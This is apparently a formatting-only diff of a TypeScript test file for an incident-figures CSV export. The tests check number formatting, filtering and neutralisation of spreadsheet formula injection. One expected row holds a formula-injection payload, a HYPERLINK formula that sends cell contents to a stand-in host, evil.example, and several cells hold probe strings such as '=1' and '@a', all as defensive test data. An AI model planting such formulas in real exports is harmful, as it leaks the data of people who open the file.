@@ -86,10 +86,37 @@ const AWKWARD: Awkward[] = [
     subEventType: "",
     actors: ["Group 50%_o'k Brigade"],
   },
-  { code: "AAA-2024-0004", title: "CRLF\r\ninside, and \"quotes\"", country: "NER", date: "2024-05-05", lat: -2.5e-5, lon: 1e-7, actors: ["x50%_o'k"] },
+  {
+    code: "AAA-2024-0004",
+    title: 'CRLF\r\ninside, and "quotes"',
+    country: "NER",
+    date: "2024-05-05",
+    lat: -2.5e-5,
+    lon: 1e-7,
+    actors: ["x50%_o'k"],
+  },
   { code: "AAA-2024-0005", title: "\r=1", country: "MLI", date: "2024-07-01", lat: -90, lon: 180, flags: ["single_source"] },
-  { code: "AAA-2024-0006", title: "@merged", country: "MLI", date: "2024-05-02", lat: 0.5, lon: 0.5, flags: ["contested"], actors: ["Group 50%_o'k"], mergedInto: "AAA-2024-0001" },
-  { code: "AAA-2024-0007", title: "No figures at all", country: "MLI", date: "2024-05-03", lat: 0.25, lon: 0.25, flags: ["contested"], figures: false },
+  {
+    code: "AAA-2024-0006",
+    title: "@merged",
+    country: "MLI",
+    date: "2024-05-02",
+    lat: 0.5,
+    lon: 0.5,
+    flags: ["contested"],
+    actors: ["Group 50%_o'k"],
+    mergedInto: "AAA-2024-0001",
+  },
+  {
+    code: "AAA-2024-0007",
+    title: "No figures at all",
+    country: "MLI",
+    date: "2024-05-03",
+    lat: 0.25,
+    lon: 0.25,
+    flags: ["contested"],
+    figures: false,
+  },
   { code: "AAA-2024-0010", title: "-", country: "MLI", date: "2024-05-04", lat: 90, lon: -179.99999999999997, admin1: "-", place: "'" },
   { code: "aaa-2024-0011", title: "lower-case code", country: "BFA", date: "2024-05-04", lat: 5e-324, lon: -1e-300 },
   { code: "AAA-2024-0012", title: "Near the thresholds", country: "BFA", date: "2024-05-04", lat: 1.5e-7, lon: -9.999999999999999e-5 },
@@ -125,7 +152,12 @@ async function insertData() {
       },
     });
     // Exact doubles (and -0), whatever the driver would make of them. (The table keeps them in -90…90 and -180…180.)
-    await db.$executeRawUnsafe(`UPDATE "Incident" SET "latitude" = $1::float8, "longitude" = $2::float8 WHERE "id" = $3::uuid`, String(a.lat), String(a.lon), incident.id);
+    await db.$executeRawUnsafe(
+      `UPDATE "Incident" SET "latitude" = $1::float8, "longitude" = $2::float8 WHERE "id" = $3::uuid`,
+      String(a.lat),
+      String(a.lon),
+      incident.id,
+    );
     if (a.figures === false) continue;
     // Inserted out of order: the file orders them by metric, then category (enum order).
     const groups = [
@@ -191,7 +223,19 @@ async function insertData() {
     })),
   });
   await db.reconciliation.createMany({
-    data: bulkIds.map((incidentId, n) => ({ incidentId, metric: "killed" as const, category: "civilians" as const, low: n, best: n, high: n, method: "source_priority" as const, rationale: "Bulk.", claimCount: 0, sourceCount: 0, independentSourceCount: 0 })),
+    data: bulkIds.map((incidentId, n) => ({
+      incidentId,
+      metric: "killed" as const,
+      category: "civilians" as const,
+      low: n,
+      best: n,
+      high: n,
+      method: "source_priority" as const,
+      rationale: "Bulk.",
+      claimCount: 0,
+      sourceCount: 0,
+      independentSourceCount: 0,
+    })),
   });
 }
 
@@ -209,11 +253,37 @@ async function expectedFigures(filter: IncidentFilter): Promise<string> {
   for (const i of incidents) {
     for (const f of i.figures) {
       // Code-unit order is "C" order for these ASCII slugs.
-      const claimants = [...new Set(i.claims.filter((c) => c.metric === f.metric && c.category === f.category).map((c) => c.claimant.slug))].sort();
+      const claimants = [
+        ...new Set(i.claims.filter((c) => c.metric === f.metric && c.category === f.category).map((c) => c.claimant.slug)),
+      ].sort();
       rows.push([
-        i.code, i.title, isoDay(i.dateStart), isoDay(i.dateEnd), i.datePrecision, i.countryIso3, i.admin1, i.admin2, i.placeName, i.latitude, i.longitude,
-        i.locationPrecision, i.eventType, i.subEventType, f.metric, f.category, f.low, f.best, f.high, f.method, listCell(f.flags), f.claimCount, f.sourceCount,
-        f.independentSourceCount, listCell(claimants), i.grading, f.computedAt.toISOString(),
+        i.code,
+        i.title,
+        isoDay(i.dateStart),
+        isoDay(i.dateEnd),
+        i.datePrecision,
+        i.countryIso3,
+        i.admin1,
+        i.admin2,
+        i.placeName,
+        i.latitude,
+        i.longitude,
+        i.locationPrecision,
+        i.eventType,
+        i.subEventType,
+        f.metric,
+        f.category,
+        f.low,
+        f.best,
+        f.high,
+        f.method,
+        listCell(f.flags),
+        f.claimCount,
+        f.sourceCount,
+        f.independentSourceCount,
+        listCell(claimants),
+        i.grading,
+        f.computedAt.toISOString(),
       ]);
     }
   }
@@ -257,14 +327,22 @@ describe("figures.csv by COPY", () => {
     // A few cells spelled out, so a shared mistake in both writers cannot hide.
     const text = actual.toString("utf8");
     expect(text.startsWith(`${FIGURES_COLUMNS.join(",")}\r\n`)).toBe(true);
-    expect(text).toContain(`AAA-2024-0001,"'=HYPERLINK(""http://evil.example/?q=""&A1)",2024-05-01,2024-05-01,day,MLI,,,'+place,0.00001,-0.000001,3,'-Battles,'@sub,killed,civilians,2,3,40,editor,parties_only;contested,2,2,2,alpha;alpha-2;alpha2;zeta,fair,2024-05-06T07:08:09.240Z\r\n`);
-    expect(text).toContain(`AAA-2024-0002,"'\tTabbed, with a comma",2024-06-01,2024-06-01,day,MLI,,,''=already neutralised,0,0,3,'''+two apostrophes,'Tis an apostrophe,killed,civilians`);
-    expect(text).toContain(`AAA-2024-0003,"Line one\nline two",2024-02-01,2024-02-01,day,MLI,"Gao, ""north""",Ménaka,Tillabéri — 北京 🙂,89.999999999,179.99999999999997,3,Battles,,`);
+    expect(text).toContain(
+      `AAA-2024-0001,"'=HYPERLINK(""http://evil.example/?q=""&A1)",2024-05-01,2024-05-01,day,MLI,,,'+place,0.00001,-0.000001,3,'-Battles,'@sub,killed,civilians,2,3,40,editor,parties_only;contested,2,2,2,alpha;alpha-2;alpha2;zeta,fair,2024-05-06T07:08:09.240Z\r\n`,
+    );
+    expect(text).toContain(
+      `AAA-2024-0002,"'\tTabbed, with a comma",2024-06-01,2024-06-01,day,MLI,,,''=already neutralised,0,0,3,'''+two apostrophes,'Tis an apostrophe,killed,civilians`,
+    );
+    expect(text).toContain(
+      `AAA-2024-0003,"Line one\nline two",2024-02-01,2024-02-01,day,MLI,"Gao, ""north""",Ménaka,Tillabéri — 北京 🙂,89.999999999,179.99999999999997,3,Battles,,`,
+    );
     expect(text).toContain(`"CRLF\r\ninside, and ""quotes""",2024-05-05,2024-05-05,day,NER,Gao,,Place of AAA-2024-0004,-0.000025,1e-7,`);
     expect(text).toContain(`AAA-2024-0005,"'\r=1",2024-07-01,2024-07-01,day,MLI,Gao,,Place of AAA-2024-0005,-90,180,`);
     expect(text).toContain(`AAA-2024-0010,'-,2024-05-04,2024-05-04,day,MLI,'-,,',90,-179.99999999999997,`);
     expect(text).toContain(`aaa-2024-0011,lower-case code,2024-05-04,2024-05-04,day,BFA,Gao,,Place of aaa-2024-0011,5e-324,-1e-300,`);
-    expect(text).toContain(`AAA-2024-0012,Near the thresholds,2024-05-04,2024-05-04,day,BFA,Gao,,Place of AAA-2024-0012,1.5e-7,-0.00009999999999999999,`);
+    expect(text).toContain(
+      `AAA-2024-0012,Near the thresholds,2024-05-04,2024-05-04,day,BFA,Gao,,Place of AAA-2024-0012,1.5e-7,-0.00009999999999999999,`,
+    );
     expect(text).toContain(`,injured,attackers,3,4,9,source_priority,single_source,3,3,3,beta,fair,2024-05-06T07:08:09.360Z\r\n`);
     expect(text).toContain(`,abducted,civilians,0,1,3,source_priority,,0,0,0,,fair,2024-05-06T07:08:09.000Z\r\n`);
     // Merged incidents and incidents without figures write no row.
@@ -274,7 +352,14 @@ describe("figures.csv by COPY", () => {
 
   it("applies the filter as the Prisma form of it does, LIKE wildcards and quotes in the actor taken literally", async () => {
     const filters: IncidentFilter[] = [
-      { country: ["MLI"], from: "2024-03-01", to: "2024-09-30", bbox: { minLon: -1, minLat: -1, maxLon: 1, maxLat: 1 }, flag: ["contested"], actor: "50%_o'k" },
+      {
+        country: ["MLI"],
+        from: "2024-03-01",
+        to: "2024-09-30",
+        bbox: { minLon: -1, minLat: -1, maxLon: 1, maxLat: 1 },
+        flag: ["contested"],
+        actor: "50%_o'k",
+      },
       { actor: "50%_o'k" },
       { country: ["BFA", "NER"], admin1: ["GAO"] },
       { bbox: { minLon: 170, minLat: 80, maxLon: -170, maxLat: 90 }, eventType: ["Battles"], grading: ["fair"] },
@@ -347,7 +432,9 @@ describe("figures.csv by COPY", () => {
 
   it("releases the connection when the HTTP client cancels the download", async () => {
     for (let k = 0; k < 4; k++) {
-      const response = await exportGet(new Request("http://localhost/api/export/figures.csv?country=ZZZ"), { params: Promise.resolve({ file: "figures.csv" }) });
+      const response = await exportGet(new Request("http://localhost/api/export/figures.csv?country=ZZZ"), {
+        params: Promise.resolve({ file: "figures.csv" }),
+      });
       expect(response.status).toBe(200);
       expect(response.headers.get("x-triangulate-data-version")).toMatch(new RegExp(`^incidents=${BULK}; `));
       const reader = response.body!.getReader();
@@ -372,12 +459,39 @@ describe("cell expressions", () => {
   it("write every double as JavaScript's String(n) does", async () => {
     const special = ["-0", "NaN", "Infinity", "-Infinity"];
     const values: number[] = [
-      0, 1, -1, 0.1, 0.5, 1e-4, 9.999999999999999e-5, 1e-5, 0.00001234, 1e-6, 9.999999999999999e-7, 1e-7, 1.5e-7, 1e-300, 5e-324, 2.2250738585072014e-308,
-      1e14, 99999999999999.98, 1e15, 999999999999999.9, 1e15 + 2, Number.MAX_SAFE_INTEGER, 1e20, 1e21, 1.5e21, Number.MAX_VALUE,
-      12.345678901234567, 179.99999999999997, -89.999999999, 0.30000000000000004,
+      0,
+      1,
+      -1,
+      0.1,
+      0.5,
+      1e-4,
+      9.999999999999999e-5,
+      1e-5,
+      0.00001234,
+      1e-6,
+      9.999999999999999e-7,
+      1e-7,
+      1.5e-7,
+      1e-300,
+      5e-324,
+      2.2250738585072014e-308,
+      1e14,
+      99999999999999.98,
+      1e15,
+      999999999999999.9,
+      1e15 + 2,
+      Number.MAX_SAFE_INTEGER,
+      1e20,
+      1e21,
+      1.5e21,
+      Number.MAX_VALUE,
+      12.345678901234567,
+      179.99999999999997,
+      -89.999999999,
+      0.30000000000000004,
     ];
     let seed = 42;
-    const next = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
+    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
     for (let k = 0; k < 3000; k++) {
       // Below 2^53 (coordinates lie within ±180): above it, PostgreSQL's shortest digits can differ from
       // JavaScript's when the shortest decimal lies exactly on the boundary of the double's interval.
@@ -387,14 +501,43 @@ describe("cell expressions", () => {
     }
     const texts = [...special, ...values.map((v) => (Object.is(v, -0) ? "-0" : String(v)))];
     await client.query("SET extra_float_digits = 1");
-    const { rows } = await client.query<{ v: string | null }>(`SELECT ${jsNumberSql("x")} AS v FROM unnest($1::float8[]) WITH ORDINALITY AS u(x, n) ORDER BY n`, [texts]);
+    const { rows } = await client.query<{ v: string | null }>(
+      `SELECT ${jsNumberSql("x")} AS v FROM unnest($1::float8[]) WITH ORDINALITY AS u(x, n) ORDER BY n`,
+      [texts],
+    );
     const expected = texts.map((t) => formatCell(Number(t)));
     expect(rows.map((r) => r.v ?? "")).toEqual(expected);
   });
 
   it("neutralise text as neutraliseText does, and write empty text as NULL", async () => {
-    const texts = ["", "=1", "+1", "-1", "@a", "\t=1", "\r=1", "'=1", "''-1", "'''@", "'", "''", "'a", "a=1", " =1", "\n=1", "é=", "=", "-", "'\t", "🙂", "plain"];
-    const { rows } = await client.query<{ v: string | null }>(`SELECT ${textCellSql("x")} AS v FROM unnest($1::text[]) WITH ORDINALITY AS u(x, n) ORDER BY n`, [texts]);
+    const texts = [
+      "",
+      "=1",
+      "+1",
+      "-1",
+      "@a",
+      "\t=1",
+      "\r=1",
+      "'=1",
+      "''-1",
+      "'''@",
+      "'",
+      "''",
+      "'a",
+      "a=1",
+      " =1",
+      "\n=1",
+      "é=",
+      "=",
+      "-",
+      "'\t",
+      "🙂",
+      "plain",
+    ];
+    const { rows } = await client.query<{ v: string | null }>(
+      `SELECT ${textCellSql("x")} AS v FROM unnest($1::text[]) WITH ORDINALITY AS u(x, n) ORDER BY n`,
+      [texts],
+    );
     expect(rows.map((r) => r.v)).toEqual(texts.map((t) => (t === "" ? null : formatCell(t))));
   });
 });
